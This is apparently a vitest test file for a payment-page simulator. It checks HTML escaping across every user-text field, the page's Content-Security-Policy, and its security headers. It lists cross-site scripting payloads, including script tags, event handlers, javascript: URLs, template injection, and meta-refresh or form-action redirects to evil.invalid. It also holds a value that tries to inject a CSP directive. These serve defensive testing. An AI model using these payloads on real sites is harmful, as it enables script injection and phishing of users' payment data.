import {
  attempt,
  checkout,
  inlineOf,
  policyByHash,
  session,
  shapeOf,
  tagsOf,
} from '@svc-simulator/test-support/page-markup.ts';
import { describe, expect, it } from 'vitest';
import { renderPaymentPage } from './checkout.tsx';
import { renderClosedPage, renderResultPage } from './end-pages.tsx';
import { formFields } from './form/form-fields.ts';
import { parsePaymentForm } from './form/payment-form.ts';
import { paymentPageHeaders } from './page-frame.ts';

const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
  '<form action="https://evil.invalid"><input name=otp>',
  '<!-- x --!><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '" onfocus="alert(1)" autofocus="',
  "' onfocus='alert(1)' autofocus='",
  '" style="background:url(//evil.invalid)',
  '`onmouseover=alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'javascript:alert(1)//<',
];

/** Returns every page, with the same text in every field that can contain user text. */
function pagesWith(text: string): string[] {
  const lang = 'es';
  const filledSession = {
    ...session,
    merchant: text,
    title: text,
    description: text,
    identifierLabel: text,
    identifier: text,
  };
  const values = Object.fromEntries(formFields.map((field) => [field, text]));
  const result = parsePaymentForm(new URLSearchParams(values), checkout);
  const faults = formFields.map((field) => ({ field, pointer: `/${field}`, detail: text }));
  const payment = { ...attempt, bankName: text, bankReferenceId: text };
  return [
    renderPaymentPage({
      ...checkout,
      session: filledSession,
      banks: [{ code: text, name: text }],
      values: result.ok ? {} : result.values,
      faults,
      overdue: { dueAt: checkout.now, message: text },
      retry: { reason: text },
    }),
    renderResultPage({ lang, session: filledSession, outcome: 'failed', attempt: payment, reason: text }),
    renderClosedPage({ lang, session: filledSession, status: 'paid', attempt: payment, returnUrl: text }),
    renderClosedPage({
      lang,
      session: filledSession,
      status: 'paid',
      returnUrl: `https://a.invalid/?${text}#${text}`,
    }),
  ];
}

describe('escaping', () => {
  const plain = pagesWith('texto').map(shapeOf);

  it.each(payloads)('escapes %j in every field', (payload) => {
    for (const [index, page] of pagesWith(payload).entries()) {
      expect(shapeOf(page)).toEqual(plain[index]);
      for (const { attributes } of tagsOf(page)) {
        if (attributes.href)
          expect(attributes.href).toMatch(
            /^(\?lang=(es|en)$|#|https:\/\/a\.invalid\/|data:image\/svg\+xml,)/,
          );
      }
    }
  });

  it.each([
    ['<bdi class="text">texto', '<img src=x onerror=alert(1)>'],
    ['<bdi class="text">texto', '</bdi>'],
    ['<bdi class="text">texto', '<!--'],
    ['value="texto', '" onfocus="alert(1)'],
    ['value="texto', '"><script>alert(1)</script>'],
  ])('detects in %j the unescaped text %j', (place, payload) => {
    const [page = ''] = pagesWith('texto');
    expect(page).toContain(place);
    const unescapedPage = page.replace(place, () => place.replace('texto', payload));
    expect(shapeOf(unescapedPage)).not.toEqual(plain[0]);
  });
});

describe('the policy of a payment page', () => {
  const page = renderPaymentPage(checkout);

  it("allows only the page's style and script, by hash, and requests to its origin", () => {
    expect(paymentPageHeaders('en', [])['content-security-policy']).toBe(policyByHash(page));
  });

  it('needs no inline handlers, inline styles or external requests', () => {
    for (const { name, attributes } of tagsOf(page)) {
      expect(Object.keys(attributes).filter((key) => /^(on|style$|src$|srcset$)/.test(key))).toEqual([]);
      if (name === 'link') expect(attributes.href).toMatch(/^data:/);
    }
    expect(inlineOf(page, 'style')).not.toMatch(/@import|url\((?!["']?data:)/);
  });
});

describe('paymentPageHeaders', () => {
  it('contains the headers of every page', () => {
    expect(paymentPageHeaders('en', [])).toEqual({
      'content-type': 'text/html; charset=utf-8',
      'content-language': 'en',
      'content-security-policy': policyByHash(renderPaymentPage(checkout)),
      'cache-control': 'no-store',
      'referrer-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': 'camera=(), geolocation=(), microphone=()',
      'x-robots-tag': 'noindex',
      vary: 'accept-language',
    });
  });

  it('restricts frames only by the policy, without X-Frame-Options', () => {
    const some = paymentPageHeaders('en', ['https://shop.invalid', 'http://localhost:3000']);
    expect(some['content-security-policy']).toContain(
      'frame-ancestors https://shop.invalid http://localhost:3000',
    );
    const any = paymentPageHeaders('en', 'any');
    expect(any['content-security-policy']).not.toContain('frame-ancestors');
    for (const headers of [some, any]) expect(headers).not.toHaveProperty('x-frame-options');
  });

  it('escapes a stored origin that would begin another directive', () => {
    const origins = ['https://*;script-src *', 'https://SHOP.invalid/path', "https://a';x"];
    const policy = paymentPageHeaders('en', origins)['content-security-policy'] ?? '';
    const directives = policy.split('; ').map((directive) => directive.split(' ')[0]);
    expect(new Set(directives).size).toBe(directives.length);
    expect(policy).toContain('frame-ancestors https://shop.invalid;');
  });
});
